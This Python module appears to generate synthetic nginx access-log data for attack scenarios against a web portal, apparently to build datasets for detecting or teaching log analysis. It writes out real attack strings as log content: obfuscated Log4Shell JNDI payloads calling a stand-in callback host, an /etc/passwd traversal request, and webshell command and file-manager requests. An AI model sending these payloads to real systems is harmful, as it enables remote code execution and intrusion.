"""Attacks on the portal as they show in nginx's access.log.

Payloads are written the way the tools send them (sqlmap percent-encodes
everything, browsers leave quotes alone, curl sends raw bytes that nginx
escapes). Callback hosts in payloads use reserved example domains, never an
address, so each attacker address appears in one scenario only.
"""

from __future__ import annotations

from collections.abc import Iterator
from random import Random
from urllib.parse import quote

from .common import Context, Line, Plan, ScenarioMaker, ScenarioType, between, hexid, pick
from .site import (
    DESKTOP_UAS,
    NOT_FOUND_PHP,
    raw_request,
    request,
    static_status,
)
from .web_probes import dirbrute_browser, gobuster, nikto, nuclei, sqli_manual, sqlmap, wpscan
from .wordlists import (
    BOT_UAS,
    CALLBACK,
    CMDI,
    FLOOD_UAS,
    LFI,
    LFI_TARGETS,
    SHELL_COMMANDS,
    XSS,
)

# --------------------------------------------------------------------------- injections


def lfi(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    agent = pick(rng, (*DESKTOP_UAS[:2], "curl/7.88.1", "python-requests/2.31.0"))
    path, param = pick(rng, LFI_TARGETS)
    t = plan.t0
    for n in range(plan.size):
        payload = LFI[n % len(LFI)] if n < len(LFI) else pick(rng, LFI)
        if rng.random() < 0.15:
            target = "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"
            status, size = 400, 157
        else:
            target = f"{path}?{param}={payload}"
            status, size = (
                (200, 2911 + int(rng.random() * 40))
                if rng.random() < 0.3
                else (404, NOT_FOUND_PHP if path.endswith(".php") else 21377)
            )
        yield raw_request(ctx, t, plan.ip, f"GET {target} HTTP/1.1", status, size, "-", agent)
        t += between(rng, 0.5, 12)


def xss(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    agent = pick(rng, (*DESKTOP_UAS[:3], "curl/7.88.1"))
    t = plan.t0
    for n in range(plan.size):
        payload = XSS[n % len(XSS)]
        target = pick(rng, ("/tim-kiem?q=", "/?s=", "/lien-he/?ten=")) + payload
        yield raw_request(
            ctx,
            t,
            plan.ip,
            f"GET {target} HTTP/1.1",
            200,
            27000 + int(rng.random() * 900),
            "-",
            agent,
        )
        t += between(rng, 2, 40)


def cmdi(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    agent = pick(rng, ("Hello, World", "Mozilla/5.0", *BOT_UAS[:1], "curl/7.88.1"))
    t = plan.t0
    for n in range(plan.size):
        target = CMDI[n % len(CMDI)] if n < len(CMDI) else pick(rng, CMDI)
        status, size = static_status(target.split("?")[0], rng)
        yield raw_request(ctx, t, plan.ip, f"GET {target} HTTP/1.1", status, size, "-", agent)
        t += between(rng, 0.3, 20)


def _jndi(rng: Random) -> str:
    token = hexid(rng, 12, "abcdefghijklmnopqrstuvwxyz0123456789")
    host = f"{token}.{CALLBACK}"
    return pick(
        rng,
        (
            f"${{jndi:ldap://{host}:1389/a}}",
            f"${{jndi:dns://{host}/a}}",
            f"${{jndi:rmi://{host}:1099/Exploit}}",
            f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://{host}/a}}",
            f"${{${{lower:j}}ndi:${{lower:l}}dap://{host}/Basic/Command/Base64/aWQ=}}",
        ),
    )


def log4shell(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    t = plan.t0
    for n in range(plan.size):
        payload = _jndi(rng)
        where = n % 3
        if where == 0:  # in the user agent
            yield raw_request(ctx, t, plan.ip, "GET / HTTP/1.1", 200, 61234, "-", payload)
        elif where == 1:  # in the query, percent-encoded
            target = f"/?x={quote(payload, safe='')}"
            yield raw_request(
                ctx, t, plan.ip, f"GET {target} HTTP/1.1", 200, 61234, "-", BOT_UAS[1]
            )
        else:  # in the referer and the agent, on a login page
            yield raw_request(
                ctx,
                t,
                plan.ip,
                "GET /wp-login.php HTTP/1.1",
                200,
                4923,
                payload,
                payload,
                xff=payload,
            )
        t += between(rng, 0.2, 30)


# --------------------------------------------------------------------------- webshells


def webshell(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    t = plan.t0
    ip = plan.ip
    style = int(rng.random() * 3)
    # the CMS's own upload folder, or the one of an older module of the portal
    uploads = pick(rng, ("/wp-content/uploads", "/uploads")) + f"/{ctx.year}/{ctx.month:02d}"
    if style == 0:  # upload through a vulnerable file manager, then ?cmd=
        agent = pick(rng, (BOT_UAS[0], "python-requests/2.31.0"))
        shell = f"{uploads}/{pick(rng, ('anh', 'img_2026', 'thumb', 'wp-info'))}.php"
        yield request(
            ctx,
            t,
            ip,
            "POST",
            "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
            200,
            1043,
            "-",
            agent,
        )
        for n in range(plan.size - 1):
            t += between(rng, 2, 60)
            method = "POST" if rng.random() < 0.4 else "GET"
            yield request(
                ctx,
                t,
                ip,
                method,
                f"{shell}?cmd={SHELL_COMMANDS[n % len(SHELL_COMMANDS)]}",
                200,
                20 + int(rng.random() * 3000),
                "-",
                agent,
            )
    elif style == 1:  # a China Chopper / Godzilla style shell: bodies only, POST after POST
        agent = pick(rng, ("antSword/v2.1", BOT_UAS[0]))
        shell = pick(
            rng, (f"/wp-content/uploads/{ctx.year - 1}/11/x.php", "/wp-content/uploads/x.php")
        )
        for _ in range(plan.size):
            yield request(ctx, t, ip, "POST", shell, 200, 16 + int(rng.random() * 4000), "-", agent)
            t += between(rng, 1, 45)
    else:  # a file-manager shell left in the web root
        agent = pick(rng, DESKTOP_UAS[:2])
        name = pick(rng, ("/shell.php", "/wso.php", "/alfa.php", "/up.php"))
        yield request(ctx, t, ip, "GET", name, 200, 21311 + int(rng.random() * 800), "-", agent)
        for n in range(plan.size - 1):
            t += between(rng, 3, 90)
            if n % 3 == 2:
                yield request(
                    ctx,
                    t,
                    ip,
                    "GET",
                    f"{name}?a=FilesMan&c=%2Fvar%2Fwww%2Fportal%2Fwp-content%2Fuploads",
                    200,
                    35112 + int(rng.random() * 4000),
                    f"https://{ctx.portal}{name}",
                    agent,
                )
            else:
                yield request(
                    ctx,
                    t,
                    ip,
                    "POST",
                    name,
                    200,
                    9000 + int(rng.random() * 30000),
                    f"https://{ctx.portal}{name}",
                    agent,
                )


# --------------------------------------------------------------------------- brute force, flood


def wp_login(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    agent = pick(rng, BOT_UAS)
    t = plan.t0
    login = f"https://{ctx.portal}/wp-login.php"
    yield request(ctx, t, plan.ip, "GET", "/?author=1", 301, 0, "-", agent)
    t += between(rng, 0.5, 3)
    yield request(ctx, t, plan.ip, "GET", "/wp-login.php", 200, 4923, "-", agent)
    for _ in range(plan.size - 2):
        t += between(rng, 0.3, 3)
        yield request(
            ctx,
            t,
            plan.ip,
            "POST",
            "/wp-login.php",
            200,
            5180 + int(rng.random() * 60),
            login,
            agent,
        )


def xmlrpc(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    agent = pick(rng, (*BOT_UAS, "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"))
    t = plan.t0
    yield request(ctx, t, plan.ip, "GET", "/xmlrpc.php", 405, 42, "-", agent)
    for _ in range(plan.size - 1):
        t += between(rng, 0.4, 4)
        yield request(
            ctx, t, plan.ip, "POST", "/xmlrpc.php", 200, 403 + int(rng.random() * 30), "-", agent
        )


def flood(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    """One address sends thousands of requests within a minute; nginx starts refusing."""
    step = 1 / between(rng, 25, 60)  # requests per second: thousands within a minute
    roll = rng.random()  # one tool's agent, or a different browser's for each request
    agents = DESKTOP_UAS if roll < 0.3 else (pick(rng, FLOOD_UAS),)
    style = int(rng.random() * 3)
    t = plan.t0
    for n in range(plan.size):
        if style == 0:
            target = "/"
        elif style == 1:
            target = f"/?{hexid(rng, 6, 'abcdefghijklmnopqrstuvwxyz')}={int(rng.random() * 1e9)}"
        else:
            target = f"/tim-kiem?q={hexid(rng, 5, 'abcdefghijklmnopqrstuvwxyz')}"
        if n < plan.size * 0.15 or rng.random() < 0.05:
            status, size = 200, 61234 if style == 0 else 27000 + int(rng.random() * 900)
        else:
            status, size = (503, 197) if rng.random() < 0.8 else (499, 0)
        yield request(ctx, t, plan.ip, "GET", target, status, size, "-", agents[n % len(agents)])
        t += step * 2 * rng.random()


def _scenario(
    name: str,
    categories: tuple[str, ...],
    sizes: tuple[int, int],
    make: ScenarioMaker,
    vi: str,
    en: str,
) -> ScenarioType:
    return ScenarioType(name, categories, "required", sizes, make, {"vi": vi, "en": en})


SCENARIOS: tuple[ScenarioType, ...] = (
    _scenario(
        "sqlmap",
        ("web-attack", "scanning"),
        (80, 600),
        sqlmap,
        "sqlmap dò chèn mã SQL: {size} yêu cầu từ {ip}",
        "sqlmap SQL injection probing: {size} requests from {ip}",
    ),
    _scenario(
        "sqli-manual",
        ("web-attack",),
        (5, 30),
        sqli_manual,
        "Chèn mã SQL thủ công bằng trình duyệt: {size} yêu cầu từ {ip}",
        "Manual SQL injection from a browser: {size} requests from {ip}",
    ),
    _scenario(
        "scanner-nikto",
        ("scanning",),
        (150, 800),
        nikto,
        "Quét lỗ hổng bằng Nikto: {size} yêu cầu, phần lớn 404, từ {ip}",
        "Nikto vulnerability scan: {size} requests, mostly 404, from {ip}",
    ),
    _scenario(
        "scanner-nuclei",
        ("scanning",),
        (150, 800),
        nuclei,
        "Quét lỗ hổng bằng Nuclei: {size} yêu cầu từ {ip}",
        "Nuclei vulnerability scan: {size} requests from {ip}",
    ),
    _scenario(
        "scanner-gobuster",
        ("scanning",),
        (200, 800),
        gobuster,
        "Dò thư mục bằng gobuster: {size} yêu cầu từ {ip}",
        "gobuster directory brute force: {size} requests from {ip}",
    ),
    _scenario(
        "scanner-wpscan",
        ("scanning",),
        (150, 600),
        wpscan,
        "Quét WordPress bằng WPScan (plugin, tài khoản): {size} yêu cầu từ {ip}",
        "WPScan WordPress scan (plugins, users): {size} requests from {ip}",
    ),
    _scenario(
        "dirbrute-browser",
        ("scanning",),
        (150, 600),
        dirbrute_browser,
        "Dò thư mục giả danh trình duyệt: {size} yêu cầu, gần như toàn 404, từ {ip}",
        "Directory brute force with a browser user agent: {size} requests, nearly all "
        "404, from {ip}",
    ),
    _scenario(
        "lfi",
        ("web-attack",),
        (8, 60),
        lfi,
        "Đọc tệp trái phép / duyệt thư mục (LFI, ../): {size} yêu cầu từ {ip}",
        "File inclusion / path traversal (LFI, ../): {size} requests from {ip}",
    ),
    _scenario(
        "xss",
        ("web-attack",),
        (5, 40),
        xss,
        "Chèn mã kịch bản (XSS): {size} yêu cầu từ {ip}",
        "Cross-site scripting (XSS): {size} requests from {ip}",
    ),
    _scenario(
        "cmdi",
        ("web-attack",),
        (5, 40),
        cmdi,
        "Chèn lệnh hệ điều hành: {size} yêu cầu từ {ip}",
        "OS command injection: {size} requests from {ip}",
    ),
    _scenario(
        "log4shell",
        ("web-attack",),
        (3, 30),
        log4shell,
        "Khai thác Log4Shell (${{jndi:...}}) trong user agent, truy vấn, referer: {size} "
        "yêu cầu từ {ip}",
        "Log4Shell (${{jndi:...}}) in user agent, query and referer: {size} requests from {ip}",
    ),
    _scenario(
        "webshell",
        ("webshell",),
        (5, 60),
        webshell,
        "Truy cập webshell PHP (thư mục uploads hoặc web root): {size} yêu cầu từ {ip}",
        "PHP webshell use (uploads folder or web root): {size} requests from {ip}",
    ),
    _scenario(
        "wp-login-bruteforce",
        ("brute-force",),
        (60, 600),
        wp_login,
        "Dò mật khẩu trang quản trị (POST /wp-login.php): {size} yêu cầu từ {ip}",
        "CMS login brute force (POST /wp-login.php): {size} requests from {ip}",
    ),
    _scenario(
        "xmlrpc-bruteforce",
        ("brute-force",),
        (30, 300),
        xmlrpc,
        "Dò mật khẩu qua xmlrpc.php: {size} yêu cầu từ {ip}",
        "Password brute force through xmlrpc.php: {size} requests from {ip}",
    ),
    _scenario(
        "http-flood",
        ("dos",),
        (1500, 5000),
        flood,
        "Tấn công từ chối dịch vụ từ một địa chỉ: {size} yêu cầu trong chưa đầy một phút từ {ip}",
        "Single-address request flood: {size} requests in under a minute from {ip}",
    ),
)
